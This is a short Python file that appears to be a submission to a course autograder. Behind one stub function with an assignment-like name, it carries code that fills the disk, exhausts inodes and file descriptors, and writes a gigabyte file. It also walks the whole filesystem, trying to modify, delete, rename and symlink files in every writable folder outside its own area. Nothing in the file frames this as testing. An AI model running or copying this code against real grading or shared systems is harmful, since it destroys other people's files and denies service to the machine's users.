"""Fill every place that can be written to."""
# %%
import os
import sys


def fill(x):
    """Return the bytes that could be written, in MB."""
    written = 0
    for place in ("/student", "/tmp"):
        try:
            for number in range(100):
                with open(f"{place}/{number}.fill", "wb") as handle:
                    handle.write(b"x" * (1 << 20))
                written += 1
        except OSError:
            pass
    return written


def many_names(x):
    """Return how many files and folders can be made."""
    count = 0
    try:
        while True:
            os.mkdir(f"/tmp/folder{count}")
            count += 1
    except OSError:
        pass
    return count


def elsewhere(x):
    """Return in how many other places a file can be made, changed or removed."""
    places = {folder for top in ("/", "/course", *sys.path) for folder, _, _ in os.walk(top)}
    found = 0
    for place in places - {"/student", "/tmp"}:
        if place.startswith(("/student/", "/tmp/")):
            continue
        found += succeeds(open, f"{place}/x", "w") + succeeds(os.mkdir, f"{place}/y")
        for name in os.listdir(place)[:3]:
            path = f"{place}/{name}"
            found += succeeds(open, path, "a") + succeeds(os.remove, path)
            found += succeeds(os.rename, path, "/tmp/moved") + succeeds(os.symlink, path, "/tmp/s")
    return found


def succeeds(function, *arguments):
    try:
        function(*arguments)
        return True
    except (OSError, AttributeError):
        return False


def large(x):
    with open("/tmp/large", "wb") as handle:
        for _ in range(1000):
            handle.write(b"x" * (1 << 20))
    return 1.0


def descriptors(x):
    handles = []
    while True:
        handles.append(open("/tmp/one", "w"))


# %%
def perform_mf_als_step(x):
    return x + 1
